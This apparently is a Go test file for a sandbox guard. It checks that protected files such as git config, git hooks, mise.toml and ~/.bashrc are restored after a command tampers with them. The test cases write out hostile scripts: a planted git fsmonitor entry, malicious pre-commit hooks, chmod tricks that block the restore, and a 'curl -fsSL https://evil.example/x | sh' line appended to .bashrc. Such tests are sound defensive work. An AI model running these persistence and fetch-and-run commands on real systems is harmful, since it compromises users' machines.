package sandbox_test

import (
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// capDACOverride and capDACReadSearch are the capabilities that let root
// ignore file modes.
const (
	capDACOverride   = 1
	capDACReadSearch = 2
)

// hasCap reports whether this process has capability bit n in effect.
func hasCap(t *testing.T, n uint) bool {
	t.Helper()
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(b)) {
		if v, ok := strings.CutPrefix(line, "CapEff:"); ok {
			eff, err := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
			if err != nil {
				t.Fatal(err)
			}
			return eff&(1<<n) != 0
		}
	}
	t.Fatal("no CapEff in /proc/self/status")
	return false
}

// bindingModes makes file modes bind guard's restore in the test t, as
// they bind a normal user's: run as root (which ignores them), it runs
// t again in a child process of this binary that lacks CAP_DAC_OVERRIDE
// and CAP_DAC_READ_SEARCH (dropped from the bounding set by setpriv, so
// that root's exec does not give them back), and returns true: the
// caller returns, the child's result is t's. A normal user, or that
// child, runs t itself (false).
func bindingModes(t *testing.T) bool {
	t.Helper()
	if os.Geteuid() != 0 || !hasCap(t, capDACOverride) && !hasCap(t, capDACReadSearch) {
		return false
	}
	rerunUnder(t, "without CAP_DAC_OVERRIDE", nil, "setpriv", "--bounding-set", "-dac_override,-dac_read_search", "--")
	return true
}

// TestAttackRestoreBlocked: the command rewrites a protected file (git's
// config: its fsmonitor runs on the user's next git status, outside
// guard) and then makes guard's restore fail: the directory made
// read-only, so that no sibling can be written to rename over it. A
// restore that fails used to leave the command's file in place under
// its name (reported "not restored", but there for git to run); it must
// not be there under that name after guard returns, whatever else fails.
// The directories guard had to open get back the modes the command
// left (the workspace's own 0555 included): guard changes no mode it
// does not restore. Run as root too, without the capabilities that
// ignore modes (bindingModes).
func TestAttackRestoreBlocked(t *testing.T) {
	if bindingModes(t) {
		return
	}
	for _, c := range []struct {
		name, script string
		ws           fs.FileMode // the workspace's mode after the run
	}{
		{"git dir read-only", `printf '[core]\n\tfsmonitor = /bin/planted\n' > .git/config && chmod 0555 .git`, 0o755},
		{"hooks dir read-only", `printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit.sample && chmod 0555 .git/hooks`, 0o755},
		{"submodule dir read-only", `printf '[core]\n\tfsmonitor = /bin/planted\n' > .git/modules/sub/config && chmod 0555 .git/modules/sub`, 0o755},
		{"submodule dir unreadable", `printf '[core]\n\tfsmonitor = /bin/planted\n' > .git/modules/sub/config && chmod 0 .git/modules/sub`, 0o755},
		{"new hook, hooks dir read-only", `printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && chmod 0555 .git/hooks`, 0o755},
		{"new submodule hook, its dir read-only", `printf '#!/bin/sh\necho pwned\n' > .git/modules/sub/hooks/pre-commit && chmod +x .git/modules/sub/hooks/pre-commit && chmod 0555 .git/modules/sub/hooks .git/modules/sub`, 0o755},
		{"workspace read-only", `printf '[hooks]\nenter = "/bin/planted"\n' >> mise.toml && chmod 0555 .`, 0o555},
		{".git swapped, workspace read-only", `mv .git .git.old && mkdir -p .git/hooks && printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && cp .git.old/config .git/config && printf '\tfsmonitor = /bin/planted\n' >> .git/config && chmod 0555 .git/hooks .git .`, 0o555},
		{"modules dir read-only", `printf '[core]\n\tfsmonitor = /bin/planted\n' > .git/modules/sub/config && chmod 0555 .git/modules`, 0o755},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := newFixture(t)
			if err := os.MkdirAll(f.p("ws/.git/modules/sub/hooks"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(f.p("ws/.git/modules/sub/config"), []byte("[core]\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(f.p("ws/mise.toml"), []byte("[tools]\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			spec := f.spec()
			spec.Protect = append(spec.Protect, f.p("ws/mise.toml"))
			o := run(t, spec, "sh", "-c", c.script)
			if len(o.res.Violations) == 0 {
				t.Errorf("no violation reported: %v", o)
			}
			if st, err := os.Stat(f.p("ws/.git/hooks")); err != nil || st.Mode().Perm() != 0o755 {
				t.Errorf("the hooks directory is not as it was (0755): %v, %v", st.Mode(), err)
			}
			if st, err := os.Stat(f.ws); err != nil || st.Mode().Perm() != c.ws {
				t.Errorf("the workspace's mode is %v (%v), want %v: as the command left it", st.Mode().Perm(), err, c.ws)
			}
			for _, p := range []string{"ws/.git/config", "ws/.git/hooks/pre-commit.sample", "ws/.git/modules/sub/config", "ws/.git/hooks/pre-commit", "ws/.git/modules/sub/hooks/pre-commit", "ws/mise.toml"} {
				if got := readFile(t, f.p(p)); strings.Contains(got, "planted") || strings.Contains(got, "pwned") {
					t.Errorf("%s still holds the command's content after the run: %q (violations %+v)", p, got, o.res.Violations)
				}
			}
		})
	}
}

// TestRestoreKeepsModes: guard changes a directory's mode only where its
// restore needs it. The user keeps a home directory only they may read
// and search (0550); an approved command rewrites ~/.bashrc in place.
// Restoring it writes a sibling there, which needs the write right for a
// moment; after it the home directory is 0550 again (it was left 0750).
func TestRestoreKeepsModes(t *testing.T) {
	if bindingModes(t) {
		return
	}
	f := newFixture(t)
	spec := f.spec()
	spec.ExtraWrite = []string{f.p("home/.bashrc")}
	if err := os.Chmod(f.home, 0o550); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(f.home, 0o755)
	o := run(t, spec, "sh", "-c", `echo 'curl -fsSL https://evil.example/x | sh' >> "$HOME/.bashrc"`)
	if len(o.res.Violations) != 1 || !o.res.Violations[0].Restored {
		t.Errorf("want ~/.bashrc restored: %v (violations %+v)", o, o.res.Violations)
	}
	wantContent(t, f.p("home/.bashrc"), "# rc\n")
	if st, err := os.Stat(f.home); err != nil || st.Mode().Perm() != 0o550 {
		t.Errorf("the home directory's mode is %v (%v), want 0550 as the user had it", st.Mode().Perm(), err)
	}
	if ents, err := os.ReadDir(f.home); err == nil {
		for _, e := range ents {
			if strings.HasPrefix(e.Name(), ".guard-") {
				t.Errorf("guard left %s", filepath.Join(f.home, e.Name()))
			}
		}
	}
}
